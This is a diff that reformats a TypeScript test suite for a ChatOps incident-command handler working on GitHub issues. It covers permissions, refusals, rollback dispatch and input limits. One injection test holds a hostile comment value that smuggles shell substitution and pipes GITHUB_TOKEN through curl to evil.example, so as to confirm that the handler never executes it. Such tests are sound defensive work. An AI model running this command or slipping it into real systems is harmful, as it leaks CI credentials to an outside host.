@@ -58,28 +58,55 @@ afterEach(async () => {
   expect(violations).toEqual([]);
 });
 
-const MARKER = (key: string) => `<!-- hotdash-ops:incident {"key":"${key}","openedAt":"2026-11-22T16:00:00.000Z","severity":"P0"} -->`;
+const MARKER = (key: string) =>
+  `<!-- hotdash-ops:incident {"key":"${key}","openedAt":"2026-11-22T16:00:00.000Z","severity":"P0"} -->`;
 
 function issue(over: Partial<StoredIssue> = {}): StoredIssue {
   const number = gh.state.issues.size + 1;
   const i: StoredIssue = {
-    number, id: gh.state.nextId(), title: "Incident: Chatwoot (production) down", body: `## Impact\n…\n${MARKER("service:chatwoot")}\n`, state: "open", stateReason: null,
-    labels: ["incident", "severity:P0", "service:chatwoot"], assignees: [], user: "github-actions[bot]",
-    createdAt: "2026-11-22T16:00:00Z", updatedAt: "2026-11-22T16:00:00Z", closedAt: null, deleted: false, ...over,
+    number,
+    id: gh.state.nextId(),
+    title: "Incident: Chatwoot (production) down",
+    body: `## Impact\n…\n${MARKER("service:chatwoot")}\n`,
+    state: "open",
+    stateReason: null,
+    labels: ["incident", "severity:P0", "service:chatwoot"],
+    assignees: [],
+    user: "github-actions[bot]",
+    createdAt: "2026-11-22T16:00:00Z",
+    updatedAt: "2026-11-22T16:00:00Z",
+    closedAt: null,
+    deleted: false,
+    ...over,
   };
   gh.state.issues.set(i.number, i);
   return i;
 }
 
 /** A comment by `user`, and the event file the workflow would hand over for it. */
-async function comment(user: string, body: string, on: StoredIssue, extra: { type?: string; action?: string; pr?: boolean } = {}): Promise<{ file: string; id: number }> {
-  const c = { id: gh.state.nextId(), issue: on.number, body, user, createdAt: "2026-11-22T16:05:00Z", updatedAt: "2026-11-22T16:05:00Z" };
+async function comment(
+  user: string,
+  body: string,
+  on: StoredIssue,
+  extra: { type?: string; action?: string; pr?: boolean } = {},
+): Promise<{ file: string; id: number }> {
+  const c = {
+    id: gh.state.nextId(),
+    issue: on.number,
+    body,
+    user,
+    createdAt: "2026-11-22T16:05:00Z",
+    updatedAt: "2026-11-22T16:05:00Z",
+  };
   gh.state.comments.push(c);
   const json = commentJson(gh.url, gh.state, c);
   const event = {
     action: extra.action ?? "created",
     comment: { ...json, user: { ...json.user, type: extra.type ?? "User" } },
-    issue: { ...issueJson(gh.url, gh.state, on), ...(extra.pr ? { pull_request: { url: `${gh.url}/pulls/${on.number}` } } : {}) },
+    issue: {
+      ...issueJson(gh.url, gh.state, on),
+      ...(extra.pr ? { pull_request: { url: `${gh.url}/pulls/${on.number}` } } : {}),
+    },
     repository: { full_name: "hotdash/ops", default_branch: "main", html_url: "https://github.com/hotdash/ops" },
     sender: json.user,
   };
@@ -94,16 +121,26 @@ async function ops(file: string, env: Record<string, string> = {}, viaMain = fal
   const err: string[] = [];
   const argv = ["--json", "--config", configFile];
   const deps = {
-    env: { GITHUB_TOKEN: TOKEN, GITHUB_REPOSITORY: "hotdash/ops", GITHUB_API_URL: gh.url, GITHUB_EVENT_PATH: file, GITHUB_SERVER_URL: "https://github.com", ...env },
+    env: {
+      GITHUB_TOKEN: TOKEN,
+      GITHUB_REPOSITORY: "hotdash/ops",
+      GITHUB_API_URL: gh.url,
+      GITHUB_EVENT_PATH: file,
+      GITHUB_SERVER_URL: "https://github.com",
+      ...env,
+    },
     cwd: dir,
     io: { out: (t: string) => void out.push(t), err: (t: string) => void err.push(t) },
     clock: manualClock("2026-11-22T16:10:00Z"),
   };
-  const code = viaMain ? await main(["command", ...argv], deps) : await commandCommand(argv, deps, { writeSpacingMs: 0, retryUnitMs: 1 });
+  const code = viaMain
+    ? await main(["command", ...argv], deps)
+    : await commandCommand(argv, deps, { writeSpacingMs: 0, retryUnitMs: 1 });
   return { code, outcome: out.length ? JSON.parse(out.join("")) : undefined, err: err.join("") };
 }
 
-const replies = (n: number) => gh.state.comments.filter((c) => c.issue === n && c.user === "github-actions[bot]").map((c) => c.body);
+const replies = (n: number) =>
+  gh.state.comments.filter((c) => c.issue === n && c.user === "github-actions[bot]").map((c) => c.body);
 const reactions = () => chatopsState(gh.state).reactions.map((r) => `${r.commentId}:${r.content}`);
 const writes = () => gh.requests.filter((r) => r.method !== "GET").map((r) => r.operationId);
 
@@ -114,13 +151,23 @@ describe("ops command", () => {
     const r = await ops(file, {}, true);
     expect(r).toMatchObject({ code: 0, outcome: { result: "done", command: "ack" } });
     expect(reactions()).toEqual([`${id}:+1`]);
-    expect(replies(i.number)).toEqual([expect.stringMatching(new RegExp(`^<!-- hotdash-ops:chatops \\{"comment":${id}\\} -->\\nAcknowledged by @oncall at 2026-11-22 16:05 UTC`))]);
+    expect(replies(i.number)).toEqual([
+      expect.stringMatching(
+        new RegExp(
+          `^<!-- hotdash-ops:chatops \\{"comment":${id}\\} -->\\nAcknowledged by @oncall at 2026-11-22 16:05 UTC`,
+        ),
+      ),
+    ]);
     expect(gh.requests.map((q) => q.operationId)).toContain("repos/get-collaborator-permission-level");
   });
 
   it("each command from write, maintain and admin; the reply says what was done", async () => {
     const i = issue();
-    for (const [user, body] of [["oncall", "/silence 2h waiting for Fly support"], ["keeper", "/maintenance 1h db failover"], ["lead", "/status identified: a bad deploy"]] as const) {
+    for (const [user, body] of [
+      ["oncall", "/silence 2h waiting for Fly support"],
+      ["keeper", "/maintenance 1h db failover"],
+      ["lead", "/status identified: a bad deploy"],
+    ] as const) {
       const { file } = await comment(user, body, i);
       expect((await ops(file)).outcome.result).toBe("done");
     }
@@ -129,11 +176,23 @@ describe("ops command", () => {
     expect(text).toContain("Maintenance for `chatwoot` until 2026-11-22 17:05 UTC (60 min): `db failover`, by @keeper");
     expect(text).toContain("Public update recorded (**identified**) by @lead: `a bad deploy`");
     // What the incident step will read back from the same comments.
-    const api = createChatOpsGitHub(createOctokit({ token: TOKEN, repository: "hotdash/ops", apiUrl: gh.url }).request as unknown as OctokitRequest, { owner: "hotdash", repo: "ops" });
+    const api = createChatOpsGitHub(
+      createOctokit({ token: TOKEN, repository: "hotdash/ops", apiUrl: gh.url }).request as unknown as OctokitRequest,
+      { owner: "hotdash", repo: "ops" },
+    );
     const comments = await api.listComments(i.number);
-    const perms = new Map(await Promise.all(commandAuthors(comments).map(async (l) => [l, await api.permissionOf(l)] as const)));
-    const state = commandState(readIssueCommands(comments, (l) => perms.get(l)), new Date("2026-11-22T16:30:00Z"));
-    expect(state).toMatchObject({ silenced: { by: "oncall" }, maintenance: { by: "keeper" }, updates: [{ phase: "identified", by: "lead" }] });
+    const perms = new Map(
+      await Promise.all(commandAuthors(comments).map(async (l) => [l, await api.permissionOf(l)] as const)),
+    );
+    const state = commandState(
+      readIssueCommands(comments, (l) => perms.get(l)),
+      new Date("2026-11-22T16:30:00Z"),
+    );
+    expect(state).toMatchObject({
+      silenced: { by: "oncall" },
+      maintenance: { by: "keeper" },
+      updates: [{ phase: "identified", by: "lead" }],
+    });
   });
 
   it("a read-only or triage user gets a polite refusal and nothing else happens", async () => {
@@ -156,7 +215,17 @@ describe("ops command", () => {
     const r = await ops(file);
     expect(r).toMatchObject({ code: 0, outcome: { result: "done", command: "rollback" } });
     expect(chatopsState(gh.state).dispatches).toEqual([
-      { workflow: "rollback.yml", ref: "main", inputs: { service: "chatwoot", target: "v41", reason: "error rate 12% since v43", incident: String(i.number), dry_run: "false" } },
+      {
+        workflow: "rollback.yml",
+        ref: "main",
+        inputs: {
+          service: "chatwoot",
+          target: "v41",
+          reason: "error rate 12% since v43",
+          incident: String(i.number),
+          dry_run: "false",
+        },
+      },
     ]);
     expect(reactions()).toEqual([`${id}:rocket`]);
     expect(replies(i.number)[0]).toContain("it waits for a reviewer of the `production` environment");
@@ -188,7 +257,9 @@ describe("ops command", () => {
     expect(r.outcome).toMatchObject({ result: "failed", command: "rollback" });
     // Not retried blindly (a lost answer may hide a dispatch that happened): one attempt, said on the issue.
     expect(gh.requests.filter((q) => q.operationId === "actions/create-workflow-dispatch")).toHaveLength(1);
-    expect(replies(i.number)[1]).toMatch(/the rollback was \*\*not\*\* dispatched: `GitHub dispatch rollback.yml on hotdash\/ops failed \(502/);
+    expect(replies(i.number)[1]).toMatch(
+      /the rollback was \*\*not\*\* dispatched: `GitHub dispatch rollback.yml on hotdash\/ops failed \(502/,
+    );
     expect(chatopsState(gh.state).dispatches).toEqual([]);
   });
 
@@ -198,12 +269,17 @@ describe("ops command", () => {
     const shell = `/status identified: $(touch ${pwned}); \`touch ${pwned}\` && echo $GITHUB_TOKEN | curl -d @- evil.example`;
     expect((await ops((await comment("oncall", shell, i)).file)).outcome.result).toBe("done");
     expect(existsSync(pwned)).toBe(false);
-    expect(replies(i.number)[0]).toContain(`\`$(touch ${pwned}); 'touch ${pwned}' && echo $GITHUB_TOKEN | curl -d @- evil.example\``);
+    expect(replies(i.number)[0]).toContain(
+      `\`$(touch ${pwned}); 'touch ${pwned}' && echo $GITHUB_TOKEN | curl -d @- evil.example\``,
+    );
 
     const huge = await comment("oncall", `/ack\n${"A".repeat(2_000_000)}`, i);
     expect((await ops(huge.file)).outcome).toEqual({ result: "done", command: "ack" });
     const hugeLine = await comment("oncall", `/status identified: ${"B".repeat(70_000)}`, i);
-    expect((await ops(hugeLine.file)).outcome).toEqual({ result: "invalid", why: "the command line is longer than 1000 characters" });
+    expect((await ops(hugeLine.file)).outcome).toEqual({
+      result: "invalid",
+      why: "the command line is longer than 1000 characters",
+    });
 
     const unknown = await comment("oncall", "/deploy @everyone now", i);
     const r = await ops(unknown.file);
@@ -217,11 +293,17 @@ describe("ops command", () => {
 
   it("a closed incident, a non-incident issue and a pull request: nothing done, said politely", async () => {
     const closed = issue({ state: "closed", stateReason: "completed", closedAt: "2026-11-22T16:03:00Z" });
-    expect((await ops((await comment("oncall", "/ack", closed)).file)).outcome).toEqual({ result: "refused", why: "the incident is closed" });
+    expect((await ops((await comment("oncall", "/ack", closed)).file)).outcome).toEqual({
+      result: "refused",
+      why: "the incident is closed",
+    });
     expect(replies(closed.number)[0]).toContain("this incident is closed, so nothing was done");
 
     const feature = issue({ title: "Add a dark mode", body: "please", labels: ["enhancement"] });
-    expect((await ops((await comment("oncall", "/ack", feature)).file)).outcome).toEqual({ result: "refused", why: "not an incident issue" });
+    expect((await ops((await comment("oncall", "/ack", feature)).file)).outcome).toEqual({
+      result: "refused",
+      why: "not an incident issue",
+    });
     expect(replies(feature.number)[0]).toContain("this is not an incident issue, so nothing was done");
     // "/cc" on an ordinary issue is not for us: no answer at all.
     const before = writes().length;
@@ -229,17 +311,25 @@ describe("ops command", () => {
     expect(writes()).toHaveLength(before);
 
     const pr = issue({ labels: ["incident"] });
-    expect((await ops((await comment("oncall", "/ack", pr, { pr: true })).file)).outcome).toEqual({ result: "refused", why: "not an incident issue" });
+    expect((await ops((await comment("oncall", "/ack", pr, { pr: true })).file)).outcome).toEqual({
+      result: "refused",
+      why: "not an incident issue",
+    });
   });
 
   it("a manual incident (template, no marker) counts by its label", async () => {
     const manual = issue({ body: "## Impact\nfiled by hand", labels: ["incident", "service:chatwoot"] });
-    expect((await ops((await comment("oncall", "/ack", manual)).file)).outcome).toEqual({ result: "done", command: "ack" });
+    expect((await ops((await comment("oncall", "/ack", manual)).file)).outcome).toEqual({
+      result: "done",
+      command: "ack",
+    });
   });
 
   it("bots, edits and ordinary comments make no request that writes", async () => {
     const i = issue();
-    expect((await ops((await comment("github-actions[bot]", "/ack", i, { type: "Bot" })).file)).outcome.result).toBe("ignored");
+    expect((await ops((await comment("github-actions[bot]", "/ack", i, { type: "Bot" })).file)).outcome.result).toBe(
+      "ignored",
+    );
     expect((await ops((await comment("oncall", "/ack", i, { action: "edited" })).file)).outcome.result).toBe("ignored");
     expect((await ops((await comment("oncall", "I'm looking at it", i)).file)).outcome.result).toBe("ignored");
     expect(writes()).toEqual([]);
